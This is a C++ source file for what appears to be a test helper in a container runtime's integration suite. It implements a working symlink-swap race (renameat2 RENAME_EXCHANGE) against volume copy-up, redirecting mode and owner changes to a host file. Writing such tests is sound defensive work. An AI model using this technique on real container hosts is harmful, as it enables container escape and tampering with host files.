// The hostile process of volume_attacks_integration's copy-up race: it runs in a container
// that shares a volume with a container whose copy-up is filling that volume, and swaps
// each name the copy makes for a symlink to a host file the moment the name appears
// (renameat2 RENAME_EXCHANGE, spinning), so that a copy which changes modes or owners by
// name changes the host file instead. Static, plain libc: it runs inside a busybox image.
//
//   volume_race_attacker IMAGE_DIR VOLUME_DIR HOST_FILE [SECONDS]
//
// IMAGE_DIR is the image's own copy of the directory being copied: its order is the order
// in which the copy creates the names. Prints "ready" once it waits for the copy, and
// "swapped NAME" for each swap it made.
#include <dirent.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#include <cerrno>
#include <string>
#include <vector>

static double now() {
    timespec ts{};
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return double(ts.tv_sec) + double(ts.tv_nsec) / 1e9;
}

int main(int argc, char** argv) {
    if (argc < 4) {
        fprintf(stderr, "usage: %s IMAGE_DIR VOLUME_DIR HOST_FILE [SECONDS]\n", argv[0]);
        return 2;
    }
    double deadline = now() + (argc > 4 ? atof(argv[4]) : 60.0);
    std::vector<std::string> names;
    DIR* d = opendir(argv[1]);
    if (!d) return perror("opendir"), 1;
    while (dirent* e = readdir(d))
        if (strcmp(e->d_name, ".") != 0 && strcmp(e->d_name, "..") != 0) names.push_back(e->d_name);
    closedir(d);
    int vol = open(argv[2], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (vol < 0 || names.empty()) return perror("open volume"), 1;
    printf("ready %zu names\n", names.size());
    fflush(stdout);

    // The volume must look empty until the copy starts: wait for its first name.
    struct stat st{};
    while (fstatat(vol, names[0].c_str(), &st, AT_SYMLINK_NOFOLLOW) != 0)
        if (now() > deadline) return 1;
    size_t swapped = 0;
    for (size_t k = 1; k < names.size() && now() < deadline; ++k) {
        std::string swap = ".swap" + std::to_string(k);
        if (symlinkat(argv[3], vol, swap.c_str()) != 0) continue;
        while (now() < deadline) {
            if (syscall(SYS_renameat2, vol, swap.c_str(), vol, names[k].c_str(), RENAME_EXCHANGE) == 0) {
                ++swapped;
                printf("swapped %s\n", names[k].c_str());  // as it happens: the test reads it
                fflush(stdout);
                break;
            }
            if (errno != ENOENT) break;
        }
    }
    printf("done, %zu swapped\n", swapped);
    return 0;
}
